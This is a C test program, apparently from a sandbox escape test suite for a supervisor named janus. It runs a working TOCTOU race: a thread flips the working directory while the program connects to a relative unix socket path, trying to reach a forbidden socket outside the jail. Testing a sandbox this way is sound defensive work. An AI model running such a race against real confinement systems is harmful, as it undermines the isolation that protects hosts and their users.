/* e0108-toctou-unix-cwd - a relative unix socket path resolved against a
 * working directory that changes.
 *
 * Attack: connect() to the relative path "../FORBIDDEN" (FORBIDDEN without
 * its leading "/") while another thread switches the working directory
 * between a directory of the jail, where that path names a socket of the
 * program's own, and /usr, where it names the forbidden socket (a
 * listener outside the jail that counts connections).  The supervisor
 * resolves the path against the cwd it sees when it checks; the kernel
 * against the cwd of the moment.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (relative paths and the
 * working directory).  Contained by janus's pinning of the socket file
 * itself, opened by its canonical path (doc/races.md, section 2).
 * Usage: e0108-toctou-unix-cwd FORBIDDEN-SOCKET   (an absolute path) */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

static int fd_own, fd_usr, lfd;
static volatile int stop;

static void *acceptor(void *arg)
{
	(void)arg;
	while (!stop) {
		int c = accept(lfd, NULL, NULL);
		if (c >= 0)
			close(c);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0108-toctou-unix-cwd FORBIDDEN-SOCKET");
	const char *forbidden = argv[1];
	char rel[PATH_MAX], own[PATH_MAX];
	/* From e0108/sub, "../X" is e0108/X: a socket of ours there. */
	esc_cwd_race_paths("e0108", forbidden, rel, own, sizeof rel);
	struct sockaddr_un sa;
	socklen_t len = esc_unix_addr(&sa, own);
	lfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&sa, len) < 0 || listen(lfd, 512) < 0)
		esc_die("listen on our own socket");
	fd_own = open("e0108/sub", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	fd_usr = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd_own < 0 || fd_usr < 0)
		esc_die("open the two working directories");
	if (fchdir(fd_own) < 0)
		esc_die("fchdir");
	len = esc_unix_addr(&sa, rel);
	pthread_t ts, ta;
	struct esc_flipper flip = { fd_usr, fd_own, &stop };
	if (pthread_create(&ta, NULL, acceptor, NULL) != 0 ||
	    pthread_create(&ts, NULL, esc_cwd_flipper, &flip) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long connected = 0, refused = 0;
	int last = 0;
	bool reached = false;
	esc_race_init(&r);
	while (!reached && esc_race_go(&r)) {
		int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		if (s < 0)
			esc_die("socket");
		if (connect(s, (struct sockaddr *)&sa, len) == 0) {
			struct sockaddr_un peer;
			socklen_t pl = sizeof peer;
			connected++;
			memset(&peer, 0, sizeof peer);
			if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0 &&
			    strcmp(peer.sun_path, forbidden) == 0)
				reached = true;
		} else {
			refused++;
			last = errno;
		}
		close(s);
	}
	printf("connect race: %ld tries, %ld connected, %ld refused%s%s; peer was the forbidden socket: %s\n",
	       r.tries, connected, refused, refused ? ", last " : "",
	       refused ? esc_errno_name(last) : "", reached ? "yes" : "no");
	stop = 1;
	shutdown(lfd, SHUT_RDWR);
	pthread_join(ts, NULL);
	pthread_join(ta, NULL);
	return 0;
}
